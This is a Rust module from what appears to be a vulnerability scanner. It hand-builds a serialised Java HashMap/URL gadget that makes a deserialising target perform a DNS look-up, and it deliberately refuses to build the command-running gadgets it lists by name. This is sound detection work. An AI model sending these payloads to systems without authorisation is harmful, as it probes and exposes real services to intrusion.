//! A serialised Java object that does nothing but look up a name when it is read: a map with an
//! address as its key, whose hash asks for the address's host.
//!
//! Chains that run commands are not made here, although templates may mean no harm by them: a payload
//! only proves a flaw, and that an object is read at all, which is the flaw, the look-up of a name proves
//! as well and on any Java. What a command does is in nobody's hand once the target runs it.
//!
//! Written out from the grammar of the Java Object Serialization Specification, chapter 6.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use data_encoding::HEXLOWER;

use super::super::eval::EvalError;
use super::compression::gzip;
use super::{Text, unfit, utf8};

const MAGIC: [u8; 4] = [0xac, 0xed, 0, 5];
const NULL: u8 = 0x70;
const REFERENCE: u8 = 0x71;
const CLASS: u8 = 0x72;
const OBJECT: u8 = 0x73;
const STRING: u8 = 0x74;
const BLOCK_DATA: u8 = 0x77;
const END_BLOCK_DATA: u8 = 0x78;

/// The class is serialisable and writes data of its own.
const WRITES_ITSELF: u8 = 3;

/// Handles count from here.
const FIRST_HANDLE: u32 = 0x7e_0000;

/// `generate_java_gadget('dns', address, encoding)`
pub(super) fn gadget(texts: &[Text<'_>]) -> Result<Vec<u8>, EvalError> {
    if &texts[0][..] != b"dns" {
        let reason = if runs_commands(&texts[0]) {
            RUNS_COMMANDS
        } else {
            "there is no such gadget, only `dns`"
        };
        return Err(unfit(reason));
    }
    let object = lookup(&utf8(&texts[1])).ok_or_else(|| unfit("the address is too long"))?;
    let for_url = |bytes: &[u8]| BASE64_STANDARD.encode(bytes).replace('+', "%2B").into_bytes();
    Ok(match &texts[2][..] {
        b"raw" => object,
        b"hex" => HEXLOWER.encode(&object).into_bytes(),
        b"gzip" => gzip(&object),
        b"gzip-base64" => for_url(&gzip(&object)),
        b"base64-raw" => BASE64_STANDARD.encode(&object).into_bytes(),
        _ => for_url(&object),
    })
}

/// Why a gadget that runs commands is not made.
pub(super) const RUNS_COMMANDS: &str = "the gadget runs a command on the target, where a payload is only \
     to prove a flaw; `dns` proves the same by looking up a name";

/// Whether Nuclei has a gadget of this name that runs commands.
pub(super) fn runs_commands(name: &[u8]) -> bool {
    matches!(
        name,
        b"jdk7u21"
            | b"jdk8u20"
            | b"commons-collections3.1"
            | b"commons-collections4.0"
            | b"groovy1"
    )
}

/// The stream; `None` if a text is too long for its length field.
fn lookup(address: &str) -> Option<Vec<u8>> {
    let (scheme, rest) = address.split_once("://").unwrap_or(("http", address));
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let file = rest[authority.len()..].split('#').next().unwrap_or_default();
    let (host, port) = match authority.rsplit_once(':') {
        Some((host, port)) => (host, port.parse().unwrap_or(-1)),
        None => (authority, -1),
    };
    let mut stream = Stream { bytes: MAGIC.to_vec(), strings: Vec::new(), handles: 0 };
    stream.bytes.push(OBJECT);
    stream.class("java.util.HashMap", 0x0507_dac1_c316_60d1, 2)?;
    stream.field(b'F', "loadFactor", None)?;
    stream.field(b'I', "threshold", None)?;
    stream.end_of_class();
    stream.bytes.extend_from_slice(&0.75_f32.to_be_bytes());
    stream.bytes.extend_from_slice(&12_u32.to_be_bytes());
    stream.bytes.extend_from_slice(&[BLOCK_DATA, 8]);
    // Buckets and entries.
    stream.bytes.extend_from_slice(&16_u32.to_be_bytes());
    stream.bytes.extend_from_slice(&1_u32.to_be_bytes());
    stream.url(&Parts { scheme, authority, host, port, file })?;
    stream.string(address)?;
    stream.bytes.push(END_BLOCK_DATA);
    Some(stream.bytes)
}

struct Parts<'p> {
    scheme: &'p str,
    authority: &'p str,
    host: &'p str,
    port: i32,
    file: &'p str,
}

struct Stream {
    bytes: Vec<u8>,
    /// Strings that have been written, with their handles.
    strings: Vec<(String, u32)>,
    handles: u32,
}

impl Stream {
    fn utf(&mut self, text: &str) -> Option<()> {
        self.bytes.extend_from_slice(&u16::try_from(text.len()).ok()?.to_be_bytes());
        self.bytes.extend_from_slice(text.as_bytes());
        Some(())
    }

    /// A string, or a reference to where it has been written before.
    fn string(&mut self, text: &str) -> Option<()> {
        if let Some((_, handle)) = self.strings.iter().find(|(known, _)| known == text) {
            self.bytes.push(REFERENCE);
            self.bytes.extend_from_slice(&(FIRST_HANDLE + handle).to_be_bytes());
            return Some(());
        }
        self.bytes.push(STRING);
        self.strings.push((text.to_owned(), self.handles));
        self.handles += 1;
        self.utf(text)
    }

    /// A class without a superclass; its fields and [`Self::end_of_class`] follow.
    fn class(&mut self, name: &str, version: u64, fields: u16) -> Option<()> {
        self.bytes.push(CLASS);
        self.utf(name)?;
        self.bytes.extend_from_slice(&version.to_be_bytes());
        self.bytes.push(WRITES_ITSELF);
        self.bytes.extend_from_slice(&fields.to_be_bytes());
        self.handles += 1;
        Some(())
    }

    fn field(&mut self, kind: u8, name: &str, class: Option<&str>) -> Option<()> {
        self.bytes.push(kind);
        self.utf(name)?;
        class.map_or(Some(()), |class| self.string(class))
    }

    /// After this the object itself has a handle.
    fn end_of_class(&mut self) {
        self.bytes.extend_from_slice(&[END_BLOCK_DATA, NULL]);
        self.handles += 1;
    }

    /// The address, whose hash is not known yet.
    fn url(&mut self, parts: &Parts<'_>) -> Option<()> {
        self.bytes.push(OBJECT);
        self.class("java.net.URL", 0x9625_3736_1afc_e472, 7)?;
        self.field(b'I', "hashCode", None)?;
        self.field(b'I', "port", None)?;
        for name in ["authority", "file", "host", "protocol", "ref"] {
            self.field(b'L', name, Some("Ljava/lang/String;"))?;
        }
        self.end_of_class();
        self.bytes.extend_from_slice(&(-1_i32).to_be_bytes());
        self.bytes.extend_from_slice(&parts.port.to_be_bytes());
        for text in [parts.authority, parts.file, parts.host, parts.scheme] {
            self.string(text)?;
        }
        self.bytes.extend_from_slice(&[NULL, END_BLOCK_DATA]);
        Some(())
    }
}
